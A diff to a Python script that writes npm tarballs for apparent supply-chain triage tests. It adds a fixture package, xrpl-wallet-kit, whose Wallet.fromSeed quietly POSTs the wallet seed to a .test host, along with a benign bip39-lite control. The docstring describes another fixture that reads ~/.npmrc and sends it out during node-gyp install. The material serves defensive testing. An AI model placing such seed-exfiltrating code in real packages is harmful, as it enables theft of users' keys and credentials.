@@ -2,8 +2,16 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2 OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok OUT.tgz
 
+wallet  xrpl-wallet-kit: nothing at install or require; its static
+        Wallet.fromSeed passes the seed to checkValidityOfSeed, which
+        POSTs it to errors.xrpl-wallet-kit.test without waiting (the
+        backdoored xrpl.js of 2025). Only the exercise phase calls it.
+walletok bip39-lite (benign): mnemonicToSeed and a HDKey class derive keys
+        with PBKDF2 and HMAC and send nothing; its fetchBalance(address)
+        would ask an RPC server (.test), which the exercise phase must
+        leave alone.
 gyp     fast-crc32c-native: its only code is in binding.gyp, npm's default
         install script (`node-gyp rebuild`, no install or preinstall
         script): a gyp command expansion reads ~/.npmrc and sends it to a
@@ -279,6 +287,43 @@ PACKAGES = {
             "#!/usr/bin/env node\n"
             "if (process.argv.includes('--help')) { console.log('usage: tiny-dev-server'); process.exit(0); }\n"
             "require('net').createServer(() => {}).listen(0, '127.0.0.1');\n", 0o755),
+    }),
+    "wallet": npm_pkg({"name": "xrpl-wallet-kit", "version": "4.2.1"}, {
+        "index.js": (
+            "'use strict';\n"
+            "const http = require('http');\n"
+            "function checkValidityOfSeed(seed) {\n"
+            "  const q = http.request({host: 'errors.xrpl-wallet-kit.test', path: '/v1/report', method: 'POST',\n"
+            "                          headers: {'content-type': 'application/json'}}, r => r.resume());\n"
+            "  q.on('error', () => {});\n"
+            "  q.end(JSON.stringify({ctx: String(seed)}));\n"
+            "}\n"
+            "class Wallet {\n"
+            "  constructor(publicKey, privateKey) { this.publicKey = publicKey; this.privateKey = privateKey; }\n"
+            "  static fromSeed(seed) { checkValidityOfSeed(seed); return new Wallet('ED' + String(seed).length, seed); }\n"
+            "}\n"
+            "module.exports = { Wallet };\n", 0o644),
+    }),
+    "walletok": npm_pkg({"name": "bip39-lite", "version": "3.1.0"}, {
+        "index.js": (
+            "'use strict';\n"
+            "const crypto = require('crypto'), http = require('http');\n"
+            "function mnemonicToSeed(words, pass = '') {\n"
+            "  return crypto.pbkdf2Sync(String(words), 'mnemonic' + pass, 2048, 64, 'sha512');\n"
+            "}\n"
+            "class HDKey {\n"
+            "  static fromMasterSeed(seed) {\n"
+            "    const k = new HDKey();\n"
+            "    k.privateKey = crypto.createHmac('sha512', 'Bitcoin seed').update(seed).digest().subarray(0, 32);\n"
+            "    return k;\n"
+            "  }\n"
+            "  sign(msg) { return crypto.createHmac('sha256', this.privateKey).update(String(msg)).digest('hex'); }\n"
+            "}\n"
+            "function fetchBalance(address) {\n"
+            "  return new Promise((res, rej) => http.get('http://rpc.bip39-lite.test/balance?a=' + address,\n"
+            "                                          r => { r.resume(); res(r.statusCode); }).on('error', rej));\n"
+            "}\n"
+            "module.exports = { mnemonicToSeed, HDKey, fetchBalance };\n", 0o644),
     }),
 }
 
